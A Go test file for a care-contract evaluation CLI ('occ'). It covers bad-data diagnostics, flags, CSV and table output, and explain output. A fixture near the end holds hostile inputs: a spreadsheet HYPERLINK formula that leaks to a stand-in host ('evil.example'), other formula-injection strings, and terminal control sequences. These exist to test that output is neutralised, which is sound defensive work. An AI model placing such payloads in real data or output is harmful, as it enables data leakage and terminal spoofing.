package main

// Tests of occ eval and occ explain through run(), as a user calls them:
// bad data (testdata/data/bad), --set, --period, -o, --format csv and
// --workers.

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"maps"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"
	"unicode/utf8"
)

const (
	evalSpecDir = "../../specs/individual-outcomes"
	evalBadDir  = "../../testdata/data/bad"
)

// evalRun runs occ with args and returns its exit code, stdout and stderr.
func evalRun(t *testing.T, args ...string) (int, string, string) {
	t.Helper()
	var out, errb bytes.Buffer
	code := run(args, &out, &errb)
	return code, out.String(), errb.String()
}

// evalOutcomesArgs are the arguments evaluating the individual-outcomes
// contract on its own data for May 2026, followed by extra.
func evalOutcomesArgs(extra ...string) []string {
	return append([]string{"eval", evalSpecDir,
		"--data", evalSpecDir + "/reviews.csv", "--data", evalSpecDir + "/goals.csv", "--period", "2026-05"}, extra...)
}

// TestEvalBadData evaluates bad data files and pins every message: the
// exit code is 1, standard output is empty (no statement), and standard
// error lists every problem, each with file:row, column, field, the bad
// value and what was expected, then a count.
func TestEvalBadData(t *testing.T) {
	p := func(name string) string { return evalBadDir + "/" + name }
	cases := []struct {
		name  string
		files []string
		want  []string // every problem, in order
	}{
		{"bad number", []string{"bad-number.csv", "goals.csv"}, []string{
			p("bad-number.csv") + `:3:4: error: column actual_hours (D): review.actual_hours: "forty-eight" is not a number; expected a number between 0 and 400 [bad-number]`,
		}},
		{"bad date", []string{"bad-date.csv", "goals.csv"}, []string{
			p("bad-date.csv") + `:5:2: error: column month (B): review.month: "2026-05-32" is not a valid date: May 2026 has 31 days, so day 32 does not exist [bad-date]`,
		}},
		{"bad date in a goal", []string{"reviews.csv", "bad-goal-date.csv"}, []string{
			p("bad-goal-date.csv") + `:6:5: error: column agreed_on (E): goal.agreed_on: "15/04/2026" is not a date in the form yyyy-mm-dd; for 15 April 2026 write 2026-04-15 [bad-date]`,
		}},
		{"enum typo", []string{"reviews.csv", "enum-typo.csv"}, []string{
			p("enum-typo.csv") + `:5:4: error: column status (D): goal.status: "not_feasable" is not one of achieved, partly, not_met or not_feasible; did you mean "not_feasible"? [bad-choice]`,
		}},
		{"out of range", []string{"out-of-range.csv", "goals.csv"}, []string{
			p("out-of-range.csv") + `:2:3: error: column planned_hours (C): review.planned_hours: "450" is out of range; expected a number between 0 and 400 [out-of-range]`,
			p("out-of-range.csv") + `:2:6: error: column satisfaction (F): review.satisfaction: "6" is out of range; expected a whole number between 1 and 5 [out-of-range]`,
		}},
		{"blank required", []string{"blank-required.csv", "goals.csv"}, []string{
			p("blank-required.csv") + `:5:4: error: column actual_hours (D): review.actual_hours: a value is required [missing-value]`,
		}},
		{"unknown column", []string{"unknown-column.csv", "goals.csv"}, []string{
			p("unknown-column.csv") + `:1:7: error: column notes (G): review has no field "notes"; its columns are person, month, planned_hours, actual_hours, missed_visits and satisfaction [unknown-column]`,
		}},
		{"missing column", []string{"missing-column.csv", "goals.csv"}, []string{
			p("missing-column.csv") + `:1: error: review.missed_visits: the header has no missed_visits column; every review needs one [missing-column]`,
		}},
		{"orphan goal", []string{"reviews.csv", "orphan-goal.csv"}, []string{
			p("orphan-goal.csv") + `:7: error: no review with person P9 and month 2026-05-01 [no-parent]`,
		}},
		{"duplicate review", []string{"duplicate-review.csv", "goals.csv"}, []string{
			p("duplicate-review.csv") + `:6: error: duplicate review with person P2 and month 2026-05-01; the first is on row 3 [duplicate-key]`,
		}},
		{"several errors in one file", []string{"several-errors.csv", "goals.csv"}, []string{
			p("several-errors.csv") + `:2:3: error: column planned_hours (C): review.planned_hours: "forty" is not a number; expected a number between 0 and 400 [bad-number]`,
			p("several-errors.csv") + `:3:2: error: column month (B): review.month: "05/2026" is not a date in the form yyyy-mm-dd [bad-date]`,
			p("several-errors.csv") + `:4:5: error: column missed_visits (E): review.missed_visits: "-1" is out of range; expected a whole number between 0 and 200 [out-of-range]`,
			p("several-errors.csv") + `:5:6: error: column satisfaction (F): review.satisfaction: "9" is out of range; expected a whole number between 1 and 5 [out-of-range]`,
			p("several-errors.csv") + `:6:1: error: column person (A): review.person: a value is required [missing-value]`,
			// P2's month cannot be read, so P2's goals have no review.
			p("goals.csv") + `:4: error: no review with person P2 and month 2026-05-01 [no-parent]`,
			p("goals.csv") + `:5: error: no review with person P2 and month 2026-05-01 [no-parent]`,
		}},
		{"two bad files", []string{"bad-number.csv", "bad-goal-date.csv"}, []string{
			p("bad-number.csv") + `:3:4: error: column actual_hours (D): review.actual_hours: "forty-eight" is not a number; expected a number between 0 and 400 [bad-number]`,
			p("bad-goal-date.csv") + `:6:5: error: column agreed_on (E): goal.agreed_on: "15/04/2026" is not a date in the form yyyy-mm-dd; for 15 April 2026 write 2026-04-15 [bad-date]`,
		}},
		{"two bad files, several errors", []string{"several-errors.csv", "enum-typo.csv"}, []string{
			p("several-errors.csv") + `:2:3: error: column planned_hours (C): review.planned_hours: "forty" is not a number; expected a number between 0 and 400 [bad-number]`,
			p("several-errors.csv") + `:3:2: error: column month (B): review.month: "05/2026" is not a date in the form yyyy-mm-dd [bad-date]`,
			p("several-errors.csv") + `:4:5: error: column missed_visits (E): review.missed_visits: "-1" is out of range; expected a whole number between 0 and 200 [out-of-range]`,
			p("several-errors.csv") + `:5:6: error: column satisfaction (F): review.satisfaction: "9" is out of range; expected a whole number between 1 and 5 [out-of-range]`,
			p("several-errors.csv") + `:6:1: error: column person (A): review.person: a value is required [missing-value]`,
			p("enum-typo.csv") + `:4: error: no review with person P2 and month 2026-05-01 [no-parent]`,
			p("enum-typo.csv") + `:5:4: error: column status (D): goal.status: "not_feasable" is not one of achieved, partly, not_met or not_feasible; did you mean "not_feasible"? [bad-choice]`,
			p("enum-typo.csv") + `:5: error: no review with person P2 and month 2026-05-01 [no-parent]`,
		}},
	}
	used := map[string]bool{}
	for _, tc := range cases {
		for _, f := range tc.files {
			used[f] = true
		}
		t.Run(tc.name, func(t *testing.T) {
			args := []string{"eval", evalSpecDir}
			for _, f := range tc.files {
				args = append(args, "--data", p(f))
			}
			for _, format := range []string{"table", "json", "summary", "csv"} {
				code, stdout, stderr := evalRun(t, append(args, "--period", "2026-05", "--format", format)...)
				if code != 1 {
					t.Errorf("%s: exit code %d, want 1", format, code)
				}
				if stdout != "" {
					t.Errorf("%s: a statement was printed despite bad data:\n%s", format, stdout)
				}
				noun := "errors"
				if len(tc.want) == 1 {
					noun = "error"
				}
				want := strings.Join(tc.want, "\n") + "\n" + "data: " + itoaEval(len(tc.want)) + " " + noun + "; no statement produced\n"
				if format == "json" || format == "summary" {
					// With a JSON statement asked for, the errors come as
					// diagnostics JSON, each with its file, row and column.
					want = strings.Join(tc.want, "\n") + "\n"
					stderr = diagnosticsAsText(t, stderr)
				}
				if stderr != want {
					t.Errorf("%s: stderr:\n%s\nwant:\n%s", format, stderr, want)
				}
			}
		})
	}
	// Every bad file in the corpus is used by a case.
	files, err := filepath.Glob(filepath.Join(evalBadDir, "*.csv"))
	if err != nil {
		t.Fatal(err)
	}
	for _, f := range files {
		if !used[filepath.Base(f)] {
			t.Errorf("%s is not used by any case", f)
		}
	}
}

// diagnosticsAsText decodes diagnostics JSON and writes each diagnostic on
// a line as the text format does: file:line:col: severity: message [code],
// with the column left out when it is 0.
func diagnosticsAsText(t *testing.T, s string) string {
	t.Helper()
	var r struct {
		Diagnostics []struct {
			File, Severity, Code, Message string
			Line, Column                  int
		}
	}
	if err := json.Unmarshal([]byte(s), &r); err != nil {
		t.Fatalf("stderr is not diagnostics JSON: %v\n%s", err, s)
	}
	var b strings.Builder
	for _, d := range r.Diagnostics {
		loc := d.File
		if d.Line > 0 {
			loc += ":" + itoaEval(d.Line)
			if d.Column > 0 {
				loc += ":" + itoaEval(d.Column)
			}
		}
		b.WriteString(loc + ": " + d.Severity + ": " + d.Message + " [" + d.Code + "]\n")
	}
	return b.String()
}

func itoaEval(n int) string {
	b, _ := json.Marshal(n)
	return string(b)
}

// TestEvalBadDataNamesEverything checks the shape of every message of the
// many-errors case: file:row, a column with its letter, the schema field,
// the bad value quoted and what was expected.
func TestEvalBadDataNamesEverything(t *testing.T) {
	code, _, stderr := evalRun(t, "eval", evalSpecDir, "--data", evalBadDir+"/several-errors.csv")
	if code != 1 {
		t.Fatalf("exit code %d, want 1", code)
	}
	shape := regexp.MustCompile(`^\.\./\.\./testdata/data/bad/several-errors\.csv:[2-6]:[1-6]: error: column [a-z_]+ \([A-F]\): review\.[a-z_]+: ("[^"]+" is (not|out of range)|a value is required)`)
	n := 0
	for _, line := range strings.Split(strings.TrimSpace(stderr), "\n") {
		if !strings.Contains(line, "several-errors.csv") {
			continue
		}
		if !shape.MatchString(line) {
			t.Errorf("message does not name file:row, column, field and value: %s", line)
		}
		if !strings.Contains(line, "expected") && !strings.Contains(line, "yyyy-mm-dd") && !strings.Contains(line, "required") {
			t.Errorf("message does not say what was expected: %s", line)
		}
		n++
	}
	if n != 5 {
		t.Errorf("%d messages for several-errors.csv, want 5:\n%s", n, stderr)
	}
}

func TestEvalUnknownSetParam(t *testing.T) {
	code, stdout, stderr := evalRun(t, evalOutcomesArgs("--set", "hourly_rte=£20.00")...)
	if code != 2 {
		t.Errorf("exit code %d, want 2 (usage)", code)
	}
	if stdout != "" {
		t.Errorf("stdout not empty:\n%s", stdout)
	}
	if !strings.Contains(stderr, `the contract has no param "hourly_rte"; did you mean "hourly_rate"?`) {
		t.Errorf("stderr lacks a did-you-mean:\n%s", stderr)
	}
}

func TestEvalSetParam(t *testing.T) {
	code, stdout, stderr := evalRun(t, evalOutcomesArgs("--set", "hourly_rate=£20.00", "--format", "json")...)
	if code != 0 {
		t.Fatalf("exit code %d:\n%s", code, stderr)
	}
	var st struct {
		Params []struct {
			Name, Value string
			Set         bool
		}
		Lines []struct{ Rule, Key, Amount string }
	}
	if err := json.Unmarshal([]byte(stdout), &st); err != nil {
		t.Fatal(err)
	}
	found := false
	for _, l := range st.Lines {
		if l.Rule == "hours" && l.Key == "P1" {
			found = true
			if l.Amount != "800.00" {
				t.Errorf("P1 hours line %s with hourly_rate £20.00, want 800.00 (40 hours)", l.Amount)
			}
		}
	}
	if !found {
		t.Errorf("no hours line for P1")
	}
	for _, prm := range st.Params {
		if prm.Name == "hourly_rate" && (prm.Value != "20.00" || !prm.Set) {
			t.Errorf("param hourly_rate = %q set %v, want 20.00 set true", prm.Value, prm.Set)
		}
		if prm.Name == "outcome_fee" && prm.Set {
			t.Errorf("param outcome_fee marked set")
		}
	}
	// The default is unchanged by the previous run.
	_, stdout, _ = evalRun(t, evalOutcomesArgs("--format", "csv")...)
	if !strings.Contains(stdout, ",P1,payment,hours,784.00,") {
		t.Errorf("without --set, P1 hours should be 784.00:\n%s", stdout)
	}
}

func TestEvalBadPeriod(t *testing.T) {
	code, stdout, stderr := evalRun(t, "eval", evalSpecDir, "--data", evalSpecDir+"/reviews.csv", "--data", evalSpecDir+"/goals.csv", "--period", "2026-13")
	if code == 0 {
		t.Errorf("exit code 0 for period 2026-13")
	}
	if stdout != "" {
		t.Errorf("stdout not empty:\n%s", stdout)
	}
	want := `occ: "2026-13" is not a period of the term 2026-04-01 .. 2027-03-31; write a month (2026-04), a quarter (2026-Q1), a contract year (2026/27) or term`
	if !strings.Contains(stderr, want) {
		t.Errorf("stderr:\n%s\nwant it to contain:\n%s", stderr, want)
	}
}

func TestEvalMonthOfQuarterlyContract(t *testing.T) {
	for _, spec := range []struct{ dir, data string }{
		{"../../specs/performance-standards", "episodes.csv"},
		{"../../specs/lead-provider", "people.csv"},
	} {
		code, stdout, stderr := evalRun(t, "eval", spec.dir, "--data", spec.dir+"/"+spec.data, "--period", "2026-05")
		if code == 0 || stdout != "" {
			t.Errorf("%s: exit %d, stdout %q; want an error and no statement", spec.dir, code, stdout)
		}
		want := "occ: the contract settles quarterly; 2026-05 is shorter than a settlement period (try 2026-Q1)"
		if !strings.Contains(stderr, want) {
			t.Errorf("%s: stderr:\n%s\nwant it to contain:\n%s", spec.dir, stderr, want)
		}
		code, stdout, stderr = evalRun(t, "eval", spec.dir, "--data", spec.dir+"/"+spec.data, "--period", "2026-Q1")
		if code != 0 || !strings.Contains(stdout, "Statement for 2026-Q1") {
			t.Errorf("%s: 2026-Q1: exit %d\n%s%s", spec.dir, code, stdout, stderr)
		}
	}
}

// TestEvalOutputFile writes the statement with -o: the file holds exactly
// what standard output would, nothing is printed, and no temporary file is
// left beside it, also when the file already exists.
func TestEvalOutputFile(t *testing.T) {
	for _, format := range []string{"table", "json", "summary", "csv"} {
		t.Run(format, func(t *testing.T) {
			dir := t.TempDir()
			out := filepath.Join(dir, "statement."+format)
			code, want, stderr := evalRun(t, evalOutcomesArgs("--format", format)...)
			if code != 0 || want == "" {
				t.Fatalf("exit %d:\n%s", code, stderr)
			}
			for _, existing := range []bool{false, true} {
				if existing {
					if err := os.Remove(out); err != nil {
						t.Fatal(err)
					}
					if err := os.WriteFile(out, []byte("an older, longer statement\n"+strings.Repeat("x", 10000)), 0o600); err != nil {
						t.Fatal(err)
					}
				}
				code, stdout, stderr := evalRun(t, evalOutcomesArgs("--format", format, "-o", out)...)
				if code != 0 || stdout != "" || stderr != "" {
					t.Fatalf("-o: exit %d, stdout %q, stderr %q", code, stdout, stderr)
				}
				got, err := os.ReadFile(out)
				if err != nil {
					t.Fatal(err)
				}
				if string(got) != want {
					t.Errorf("the file differs from standard output (existing file: %v):\n%s\nwant:\n%s", existing, got, want)
				}
				entries, err := os.ReadDir(dir)
				if err != nil {
					t.Fatal(err)
				}
				var names []string
				for _, e := range entries {
					names = append(names, e.Name())
				}
				if !slices.Equal(names, []string{filepath.Base(out)}) {
					t.Errorf("the directory holds %v, want only %s", names, filepath.Base(out))
				}
			}
			if format == "csv" {
				info, err := os.Stat(out)
				if err != nil {
					t.Fatal(err)
				}
				if info.Mode().Perm() != 0o600 {
					t.Errorf("rewriting changed the file's mode to %v, want 0600 kept", info.Mode().Perm())
				}
			}
		})
	}
	// No statement, no file.
	dir := t.TempDir()
	out := filepath.Join(dir, "statement.json")
	code, _, _ := evalRun(t, "eval", evalSpecDir, "--data", evalBadDir+"/bad-number.csv", "--data", evalBadDir+"/goals.csv", "-o", out)
	if code != 1 {
		t.Errorf("bad data with -o: exit %d, want 1", code)
	}
	if entries, _ := os.ReadDir(dir); len(entries) != 0 {
		t.Errorf("bad data with -o left %d files", len(entries))
	}
}

func TestEvalCSV(t *testing.T) {
	code, stdout, stderr := evalRun(t, evalOutcomesArgs("--format", "csv")...)
	if code != 0 {
		t.Fatalf("exit %d:\n%s", code, stderr)
	}
	rows, err := csv.NewReader(strings.NewReader(stdout)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	header := []string{"contract", "statement", "line_id", "period", "period_start", "period_end", "payer", "person",
		"key", "kind", "rule", "amount", "currency", "title", "source", "what_if"}
	if len(rows) == 0 || !slices.Equal(rows[0], header) {
		t.Fatalf("header %v, want %v", rows[0], header)
	}
	// May is the second month of the term, so statement 2; the contract
	// has no reference, so its title stands in; the commissioner pays.
	row := func(rule, kind, key, person, amount, title, source string) []string {
		return []string{"Help to Live at Home: individual outcomes", "2", "2026-05:" + rule + ":" + key, "2026-05",
			"2026-05-01", "2026-05-31", "Example County Council", person, key, kind, rule, amount, "GBP", title, source, ""}
	}
	want := [][]string{
		row("hours", "payment", "P1", "P1", "784.00", "Hours delivered", evalSpecDir+"/reviews.csv:2"),
		row("hours", "payment", "P2", "P2", "940.80", "Hours delivered", evalSpecDir+"/reviews.csv:3"),
		row("hours", "payment", "P3", "P3", "666.40", "Hours delivered", evalSpecDir+"/reviews.csv:4"),
		row("hours", "payment", "P4", "P4", "392.00", "Hours delivered", evalSpecDir+"/reviews.csv:5"),
		row("goal_fee", "incentive", "P1/G1", "P1", "300.00", "Goal achieved", evalSpecDir+"/goals.csv:2"),
		row("goal_fee", "incentive", "P2/G1", "P2", "240.00", "Goal achieved", evalSpecDir+"/goals.csv:4"),
		row("satisfied", "incentive", "P1", "P1", "30.00", "Person satisfied with their care", evalSpecDir+"/reviews.csv:2"),
		row("satisfied", "incentive", "P3", "P3", "30.00", "Person satisfied with their care", evalSpecDir+"/reviews.csv:4"),
		row("missed", "sanction", "P2", "P2", "-47.04", "Missed visits", evalSpecDir+"/reviews.csv:3"),
		row("reduced_package", "share", "P2", "P2", "78.40", "Saving on a reduced package, shared", evalSpecDir+"/reviews.csv:3"),
		row("outcome_cap", "adjustment", "2026-05", "", "-260.92", "Outcome-linked payments at most 15% of hours paid", ""),
	}
	if len(rows)-1 != len(want) {
		t.Fatalf("%d rows, want one per line (%d):\n%s", len(rows)-1, len(want), stdout)
	}
	for i, w := range want {
		if !slices.Equal(rows[i+1], w) {
			t.Errorf("row %d: %q, want %q", i+1, rows[i+1], w)
		}
	}
}

// TestEvalWorkers compares every format with 1 and 4 workers, on the small
// individual-outcomes data and on the lead-provider's 600 people (enough
// records to evaluate in parallel).
func TestEvalWorkers(t *testing.T) {
	lead := "../../specs/lead-provider"
	cases := [][]string{
		evalOutcomesArgs(),
		{"eval", lead, "--data", lead + "/people.csv", "--period", "2026-Q1"},
		{"eval", lead, "--data", lead + "/people.csv"},
	}
	for _, args := range cases {
		for _, format := range []string{"table", "json", "summary", "csv"} {
			var outs []string
			for _, w := range []string{"1", "4", "1"} {
				code, stdout, stderr := evalRun(t, append(slices.Clone(args), "--format", format, "--workers", w)...)
				if code != 0 {
					t.Fatalf("%v --workers %s: exit %d:\n%s", args, w, code, stderr)
				}
				outs = append(outs, stdout)
			}
			if outs[0] != outs[1] || outs[0] != outs[2] {
				t.Errorf("%v --format %s: output differs between 1 and 4 workers", args, format)
			}
		}
	}
}

// TestEvalNegativeWorkers: a negative --workers is a mistake in how occ
// was called, not a request for the default.
//
// BUG (cmd/occ/eval.go, programFor): `if workers > 0` silently ignores
// --workers -3 and evaluates with one worker per CPU; exit 0.
func TestEvalNegativeWorkers(t *testing.T) {
	code, stdout, stderr := evalRun(t, evalOutcomesArgs("--workers", "-3")...)
	if code != 2 || stdout != "" {
		t.Errorf("--workers -3: exit %d (want 2, usage) and %d bytes of statement; stderr %q", code, len(stdout), stderr)
	}
}

// TestExplainPartsAreBalanced: each sub-expression explain shows must be
// the text of that sub-expression, so its brackets balance.
//
// BUG (compiler/expr.go, parts and nodeSpan): the span of a call whose
// first operand is in brackets starts inside the bracket, and a call whose
// last operand is in brackets ends inside it; explain P2 prints
// "review.planned_hours - review.actual_hours) * hourly_rate = 156.80" and
// explain P1/G1 prints "outcome_fee * (1 + quick_bonus = 300.0000".
func TestExplainPartsAreBalanced(t *testing.T) {
	for _, key := range []string{"P2", "P1/G1"} {
		code, stdout, stderr := evalRun(t, "explain", evalSpecDir, key, "--data", evalSpecDir+"/reviews.csv",
			"--data", evalSpecDir+"/goals.csv", "--period", "2026-05")
		if code != 0 {
			t.Fatalf("explain %s: exit %d:\n%s", key, code, stderr)
		}
		for _, line := range strings.Split(stdout, "\n") {
			text, _, ok := strings.Cut(strings.TrimSpace(line), " = ")
			if !ok || !strings.HasPrefix(line, "    ") {
				continue
			}
			if strings.Count(text, "(") != strings.Count(text, ")") {
				t.Errorf("explain %s: unbalanced sub-expression %q", key, text)
			}
		}
	}
}

// TestExplainCap: the explanation of a cap's adjustment must show how the
// adjustment follows from the limit: the covered amount it is compared
// with (678.40) as well as the limit (417.48).
//
// BUG (runtime/explain.go): explain outcome_cap:2026-05 shows only the
// limit expression (=> 417.4800) and then "rounded half_up to -260.92",
// with nothing about the 678.40 covered or the difference taken.
func TestExplainCap(t *testing.T) {
	code, stdout, stderr := evalRun(t, "explain", evalSpecDir, "outcome_cap:2026-05", "--data", evalSpecDir+"/reviews.csv",
		"--data", evalSpecDir+"/goals.csv", "--period", "2026-05")
	if code != 0 {
		t.Fatalf("exit %d:\n%s", code, stderr)
	}
	if !strings.Contains(stdout, "417.48") {
		t.Errorf("the explanation lacks the limit 417.48:\n%s", stdout)
	}
	if !strings.Contains(stdout, "678.40") {
		t.Errorf("the explanation lacks the covered amount 678.40, so -260.92 cannot be followed:\n%s", stdout)
	}
}

// TestEvalExplainFlag: eval --explain KEY prints what occ explain prints.
func TestEvalExplainFlag(t *testing.T) {
	_, a, _ := evalRun(t, evalOutcomesArgs("--explain", "hours:P2")...)
	_, b, _ := evalRun(t, "explain", evalSpecDir, "hours:P2", "--data", evalSpecDir+"/reviews.csv", "--data", evalSpecDir+"/goals.csv", "--period", "2026-05")
	if a == "" || a != b {
		t.Errorf("eval --explain and explain differ:\n%s\n---\n%s", a, b)
	}
	if strings.Contains(a, "missed") {
		t.Errorf("hours:P2 explained other rules' lines:\n%s", a)
	}
}

// TestEvalTableColumns: the table's line columns line up, counted in
// characters, when keys hold letters beyond ASCII, and its amounts are
// right-aligned.
func TestEvalTableColumns(t *testing.T) {
	dir := t.TempDir()
	spec := filepath.Join(dir, "contract.occ")
	if err := os.WriteFile(spec, []byte(`contract "Visits" {
  model        time_and_task
  commissioner "Example Council"
  provider     "Example Care"
  term         2026-04-01 .. 2027-03-31
  settlement   monthly
  currency     EUR
  rounding     half_up
}

param rate "Price per visit" = €1,250.50

data visit "One visit" {
  visit  text key
  date   date
  count  int 0 .. 100
}

payment visits "Visits delivered" {
  for    visit
  amount = rate * visit.count
}
`), 0o644); err != nil {
		t.Fatal(err)
	}
	data := filepath.Join(dir, "visits.csv")
	if err := os.WriteFile(data, []byte("visit,date,count\nV1,2026-05-04,1\nVisite à domicile de Zoë,2026-05-05,10\nV3,2026-05-06,0\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	code, out, errs := evalRun(t, "eval", spec, "--data", data)
	if code != 0 {
		t.Fatalf("exit %d: %s", code, errs)
	}
	var rows []string
	for _, l := range strings.Split(out, "\n") {
		if strings.HasPrefix(l, "RULE ") || strings.HasPrefix(l, "visits ") {
			rows = append(rows, l)
		}
	}
	if len(rows) != 4 {
		t.Fatalf("want the header and 3 lines, got %q in:\n%s", rows, out)
	}
	// Each column is as wide as its widest cell, in characters, and two
	// spaces apart.
	if want := "RULE    KIND     PERIOD   KEY                          AMOUNT"; rows[0] != want {
		t.Errorf("header\n%q, want\n%q", rows[0], want)
	}
	if want := "visits  payment  2026-05  Visite à domicile de Zoë  12,505.00"; rows[2] != want {
		t.Errorf("line\n%q, want\n%q", rows[2], want)
	}
	want := []string{"AMOUNT", "1,250.50", "12,505.00", "0.00"}
	keyCol := strings.Index(rows[0], "KEY")
	for i, r := range rows {
		if !strings.HasSuffix(r, want[i]) {
			t.Errorf("row %q does not end with %q", r, want[i])
		}
		if n := utf8.RuneCountInString(r); n != utf8.RuneCountInString(rows[0]) {
			t.Errorf("row %q is %d characters, the header %d", r, n, utf8.RuneCountInString(rows[0]))
		}
		if i == 0 {
			continue
		}
		if k := utf8.RuneCountInString(r[:strings.Index(r, " V")+1]); k != keyCol {
			t.Errorf("row %q: key at column %d, header's KEY at %d", r, k, keyCol)
		}
	}
}

// hostileKeys are person ids a data file might hold that a spreadsheet
// would run as formulas, or that would move a terminal's cursor or
// colour.
var hostileKeys = []string{`=HYPERLINK("http://evil.example/?leak","click")`, "@SUM(1)", "-2+3", "\x1b[31mred", "two\nlines\u202e"}

// writeHostileData writes reviews and goals of the individual-outcomes
// contract for May 2026 whose people are hostileKeys, into dir; the
// person -2+3 misses visits, so has a sanction, a negative line.
func writeHostileData(t *testing.T, dir string) (reviews, goals string) {
	t.Helper()
	var r, g bytes.Buffer
	rw, gw := csv.NewWriter(&r), csv.NewWriter(&g)
	rw.Write([]string{"person", "month", "planned_hours", "actual_hours", "missed_visits", "satisfaction"})
	gw.Write([]string{"person", "month", "goal", "status", "agreed_on", "met_on"})
	for _, k := range hostileKeys {
		missed := "0"
		if k == "-2+3" {
			missed = "3"
		}
		rw.Write([]string{k, "2026-05-01", "40", "40", missed, "5"})
		gw.Write([]string{k, "2026-05-01", "=1+1", "achieved", "2026-04-01", "2026-05-06"})
	}
	rw.Flush()
	gw.Flush()
	reviews, goals = filepath.Join(dir, "reviews.csv"), filepath.Join(dir, "goals.csv")
	if err := os.WriteFile(reviews, r.Bytes(), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(goals, g.Bytes(), 0o644); err != nil {
		t.Fatal(err)
	}
	return reviews, goals
}

// TestEvalCSVNeutralisesFormulas: a text cell of the CSV statement that a
// spreadsheet would run as a formula (starting with =, +, -, @, tab or
// carriage return) gets a single quote in front; amounts, negative ones
// too, stay plain numbers.
func TestEvalCSVNeutralisesFormulas(t *testing.T) {
	reviews, goals := writeHostileData(t, t.TempDir())
	code, stdout, stderr := evalRun(t, "eval", evalSpecDir, "--data", reviews, "--data", goals, "--period", "2026-05", "--format", "csv")
	if code != 0 {
		t.Fatalf("exit %d:\n%s", code, stderr)
	}
	rows, err := csv.NewReader(strings.NewReader(stdout)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	col := columnsOf(rows[0])
	keys := map[string]bool{}
	negative := false
	for _, r := range rows[1:] {
		keys[r[col["key"]]] = true
		for i, cell := range r {
			if i == col["amount"] {
				if !regexp.MustCompile(`^-?[0-9]+\.[0-9]{2}$`).MatchString(cell) {
					t.Errorf("amount %q is not a plain number", cell)
				}
				negative = negative || strings.HasPrefix(cell, "-")
				continue
			}
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("row %q: cell %d %q would run as a formula", r, i, cell)
			}
		}
	}
	if !negative {
		t.Error("no negative amount: the sanction of -2+3 is missing")
	}
	// Keys escape the / @ and % of their values (docs/statement.md), so
	// @SUM(1) is %40SUM(1), which no spreadsheet runs.
	for _, want := range []string{`'=HYPERLINK("http:%2F%2Fevil.example%2F?leak","click")`, "%40SUM(1)", "'-2+3", "\x1b[31mred", `'=HYPERLINK("http:%2F%2Fevil.example%2F?leak","click")/=1+1`, "'-2+3/=1+1", "\x1b[31mred/=1+1"} {
		if !keys[want] {
			t.Errorf("no line with key %q; keys %q", want, slices.Sorted(maps.Keys(keys)))
		}
	}
}

// TestEvalTableEscapesControls: the table and occ explain show control
// characters from the data (an ANSI colour, a newline, a right-to-left
// override) as visible escapes; nothing from the data reaches the
// terminal as a control character.
func TestEvalTableEscapesControls(t *testing.T) {
	reviews, goals := writeHostileData(t, t.TempDir())
	code, stdout, stderr := evalRun(t, "eval", evalSpecDir, "--data", reviews, "--data", goals, "--period", "2026-05")
	if code != 0 {
		t.Fatalf("exit %d:\n%s", code, stderr)
	}
	checkNoControls := func(what, out string) {
		t.Helper()
		for i, line := range strings.Split(out, "\n") {
			for _, r := range line {
				if unsafeRune(r) {
					t.Errorf("%s line %d %q holds control character %U", what, i+1, line, r)
				}
			}
		}
	}
	checkNoControls("table", stdout)
	for _, want := range []string{`\u001b[31mred`, `two\u000alines\u202e`, "-2+3", `=HYPERLINK("http:%2F%2Fevil.example%2F?leak","click")`} {
		if !strings.Contains(stdout, want) {
			t.Errorf("the table does not show %q:\n%s", want, stdout)
		}
	}
	// Every line of the lines table still has its five columns.
	for _, line := range strings.Split(stdout, "\n") {
		if strings.HasPrefix(line, "hours ") && len(strings.Fields(line)) != 5 {
			t.Errorf("line %q does not have five columns", line)
		}
	}
	code, stdout, stderr = evalRun(t, "explain", evalSpecDir, "\x1b[31mred", "--data", reviews, "--data", goals, "--period", "2026-05")
	if code != 0 {
		t.Fatalf("explain: exit %d:\n%s", code, stderr)
	}
	checkNoControls("explain", stdout)
	if !strings.Contains(stdout, `2026-05 hours payment \u001b[31mred = 784.00`) {
		t.Errorf("explain does not show the key escaped:\n%s", stdout)
	}
}
